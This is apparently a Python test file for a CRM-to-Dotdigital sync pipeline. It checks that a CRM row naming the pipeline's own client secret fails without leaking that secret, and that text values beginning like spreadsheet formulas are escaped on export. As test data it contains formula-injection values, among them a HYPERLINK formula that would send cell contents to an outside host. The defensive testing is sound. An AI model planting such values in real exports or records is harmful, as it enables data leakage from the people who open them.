"""CRM data written to do harm: what a person who can edit rows in Dynamics can make the pipeline do, and what not."""

from __future__ import annotations

import hashlib

import dagster as dg
from dagster._serdes import serialize_value

from dotdyn_pipeline.demo import materialized_facts as facts


def _failure_messages(result: dg.ExecuteInProcessResult) -> str:
    return " ".join(str(event.event_specific_data.error.cause or event.event_specific_data.error)
                    for event in result.all_events if event.is_step_failure)


def test_an_account_that_names_another_secret_fails_alone_and_that_secret_goes_nowhere(world, pipeline):
    healthy, hostile = world.contract["accounts"]
    secret = world.contract["client_secret"]  # the pipeline's own sign-in to Dynamics, set in its environment
    world.put_row("esc_emailaccounts", {"esc_emailaccountid": hostile["emailaccount_id"],
                                        "esc_secretname": "DOTDYN_CLIENT_SECRET"})
    try:
        failed = pipeline.sync(hostile["emailaccount_id"])
    finally:
        world.put_row("esc_emailaccounts", {"esc_emailaccountid": hostile["emailaccount_id"],
                                            "esc_secretname": hostile["secret_name"]})
    assert not failed.success
    message = _failure_messages(failed)
    assert "'DOTDYN_CLIENT_SECRET'" in message and "DOTDYN_SECRET_PREFIX" in message, "the message says why"
    run = pipeline.instance.get_run_by_id(failed.run_id)
    written = [serialize_value(run), *(serialize_value(record) for record in pipeline.instance.all_logs(failed.run_id))]
    assert not [text for text in written if secret in text], "the secret is in no event, log line or error"
    digest = hashlib.sha256(secret.encode()).hexdigest()
    refused = world.http.get("/dotdigital/refused-sign-ins").raise_for_status().json()
    assert not [sign_in for sign_in in refused
                if sign_in["password_sha256"] == digest or sign_in["api_user"] == hostile["api_user"]], \
        "no sign-in reached Dotdigital with the secret, nor any other for that account"
    assert pipeline.sync(healthy["emailaccount_id"]).success, "the other account syncs"


def _loaded_contacts(world, account: str, count: int) -> list[tuple[dict, int]]:
    """Contacts the last sync loaded into `account`'s books, each with how many of its books hold it; their
    addresses belong to no other record, so that each is sent with its own values."""
    expected = world.expected_books(account)
    loaded = world.actual_books(account, list(expected))
    addresses = [(row.get("emailaddress1") or "").strip().lower()
                 for kind in ("contact", "lead", "account") for row in world.rows(f"{kind}s")]
    once = {address for address in addresses if addresses.count(address) == 1}
    contacts = {(row.get("emailaddress1") or "").strip().lower(): row for row in world.rows("contacts")}
    chosen = sorted({email for emails in loaded.values() for email in emails} & once & set(contacts))[:count]
    return [(contacts[email], sum(email in emails for emails in loaded.values())) for email in chosen]


def _books_holding(world, account: str, email: str) -> int:
    """How many of the account's address books hold the address now."""
    books = world.actual_books(account, list(world.expected_books(account)))
    return sum(email.strip().lower() in emails for emails in books.values())


def _formula_like_values(world, account: str, changed: list[tuple[dict, int]]) -> int:
    """How many text values the sync of `changed` sends that begin like a formula, counted from the CRM rows."""
    text_attributes = {row["esc_attributename"] for row in world.rows("esc_emaildatamappings")
                       if row["_esc_emailaccountid_value"] == account and row["esc_entityname"] == "contact"
                       and row["esc_datafieldtype"] == "String" and row["statecode"] == 0}
    rows = {row["contactid"]: row for row in world.rows("contacts")}
    return sum(books for contact, books in changed for attribute in text_attributes
               if str(rows[contact["contactid"]].get(attribute) or "").startswith(("=", "+", "-", "@", "\t", "\r")))


def test_text_that_begins_like_a_formula_is_stored_as_text_unless_the_account_turns_that_off(world, pipeline):
    account = world.contract["accounts"][0]["emailaccount_id"]
    assert pipeline.sync(account).success
    (first, _), (second, _) = _loaded_contacts(world, account, 2)
    link = '=HYPERLINK("https://example.net/?"&A1,"open")'
    world.put_row("contacts", {"contactid": first["contactid"], "firstname": link, "lastname": "+1+1",
                               "numberofchildren": -5})
    world.put_row("contacts", {"contactid": second["contactid"], "firstname": "@SUM(1)", "lastname": "Plain"})

    protected = pipeline.sync(account)
    assert protected.success
    stored = world.contact(account, first["emailaddress1"])["data"]
    assert (stored["FIRSTNAME"], stored["LASTNAME"]) == (f"'{link}", "'+1+1")
    assert stored["CHILDREN"] == -5, "a number stays a number"
    assert world.contact(account, second["emailaddress1"])["data"]["FIRSTNAME"] == "'@SUM(1)"
    neutralised = facts(protected)["address_book_members"]["values_neutralised"]
    # counted in the books that hold each now: the change may have brought them into a dynamic list's query
    held = [(person, _books_holding(world, account, person["emailaddress1"])) for person in (first, second)]
    assert neutralised == _formula_like_values(world, account, held) >= 3

    world.put_row("esc_emailaccounts", {"esc_emailaccountid": account, "esc_csvformulaprotection": False})
    try:
        world.put_row("contacts", {"contactid": first["contactid"], "firstname": "=1+2"})
        unprotected = pipeline.sync(account)
    finally:
        world.put_row("esc_emailaccounts", {"esc_emailaccountid": account, "esc_csvformulaprotection": None})
    assert unprotected.success
    assert world.contact(account, first["emailaddress1"])["data"]["FIRSTNAME"] == "=1+2", "sent as it is"
    assert facts(unprotected)["address_book_members"]["values_neutralised"] == 0
